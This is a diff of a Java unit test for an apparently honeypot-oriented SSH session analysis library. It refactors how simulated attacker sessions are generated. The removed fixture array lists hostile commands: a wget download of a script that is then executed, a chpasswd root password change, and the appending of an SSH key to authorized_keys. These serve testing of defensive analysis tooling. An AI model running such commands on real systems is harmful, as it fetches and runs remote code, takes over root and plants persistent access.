@@ -3,16 +3,9 @@ package io.github.cowriekit.analysis;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatCode;
 
-import io.github.cowriekit.model.Client;
-import io.github.cowriekit.model.Command;
-import io.github.cowriekit.model.Endpoint;
-import io.github.cowriekit.model.KeyExchange;
 import io.github.cowriekit.model.Session;
 import java.io.IOException;
 import java.nio.file.Path;
-import java.time.Instant;
-import java.util.ArrayList;
-import java.util.List;
 import java.util.Random;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -23,22 +16,6 @@ import org.junit.jupiter.params.provider.ValueSource;
 /** Saves and loads histories of generated sessions; a history must not notice. */
 class HistoryStateTest {
     private static final int SESSIONS = 600;
-    private static final String[] LINES = {
-        "uname -a",
-        "id",
-        "exot",
-        "sl -la",
-        "cd /tmp",
-        "touch notes",
-        "cat notes",
-        "mkdir -p /opt/.x",
-        "ls /opt/.x",
-        "wget http://192.0.2.7/a/x.sh -O /var/tmp/.x.sh",
-        "sh /var/tmp/.x.sh",
-        "echo \"root:aeUVqyLmI0Sy\"|chpasswd",
-        "echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDExampleExampleExample00 me >> ~/.ssh/authorized_keys",
-        "exit"
-    };
 
     @TempDir
     private Path folder;
@@ -48,7 +25,7 @@ class HistoryStateTest {
     void loadsAndSavesTheSameBytes(long seed) throws IOException {
         SessionHistory history = SessionHistory.create();
         Analysis analysis = Analysis.builder().history(history).build();
-        generated(seed).forEach(analysis::assess);
+        GeneratedSessions.of(seed, SESSIONS).forEach(analysis::assess);
         history.save(folder.resolve("saved"));
 
         SessionHistory.load(folder.resolve("saved")).save(folder.resolve("again"));
@@ -66,7 +43,7 @@ class HistoryStateTest {
         SessionHistory kept = SessionHistory.load(folder.resolve("empty"));
         Analysis saved = Analysis.builder().history(kept).build();
         Random random = new Random(seed);
-        for (Session session : generated(seed)) {
+        for (Session session : GeneratedSessions.of(seed, SESSIONS)) {
             assertThat(saved.assess(session)).isEqualTo(analysis.assess(session));
             if (random.nextInt(100) == 0) {
                 kept.save(folder.resolve("kept"));
@@ -86,7 +63,7 @@ class HistoryStateTest {
         SessionHistory history = SessionHistory.create();
         SessionStatistics statistics = SessionStatistics.create();
         Analysis analysis = Analysis.builder().history(history).build();
-        generated(9).forEach(session -> {
+        GeneratedSessions.of(9, SESSIONS).forEach(session -> {
             analysis.assess(session);
             statistics.add(session);
         });
@@ -95,38 +72,5 @@ class HistoryStateTest {
 
         assertThatCode(() -> SessionHistory.load(folder.resolve("history"))).doesNotThrowAnyException();
         assertThat(SessionStatistics.load(folder.resolve("statistics")).total()).isEqualTo(statistics.total());
-    }
-
-    /** Sessions of a few clients and scripts that repeat, and of some that do not. */
-    private static List<Session> generated(long seed) {
-        Random random = new Random(seed);
-        List<Session> sessions = new ArrayList<>();
-        Instant start = Sessions.START;
-        for (int i = 0; i < SESSIONS; i++) {
-            start = start.plusSeconds(random.nextInt(3_000));
-            Random script = new Random(random.nextInt(40));
-            List<Command> commands = new ArrayList<>();
-            for (int line = script.nextInt(8); line > 0; line--) {
-                commands.add(new Command(
-                        start.plusMillis(random.nextInt(90_000)), LINES[script.nextInt(LINES.length)], false, null));
-            }
-            if (random.nextInt(10) == 0) {
-                commands.add(new Command(start, "touch /opt/" + Long.toString(random.nextLong(), 36), false, null));
-            }
-            sessions.add(Sessions.withId("fd5ac84ee8f9")
-                    .sensor("hp0" + random.nextInt(2))
-                    .source(new Endpoint("203.0.113." + random.nextInt(30), 40_000))
-                    .startedAt(start)
-                    .logins(List.of(Sessions.login("root", "p" + random.nextInt(200), true)))
-                    .client(client(random.nextInt(3)))
-                    .commands(commands)
-                    .build());
-        }
-        return sessions;
-    }
-
-    private static Client client(int number) {
-        String hassh = String.valueOf(number).repeat(32);
-        return new Client("SSH-2.0-example", KeyExchange.builder().hassh(hassh).build(), null, List.of());
     }
 }
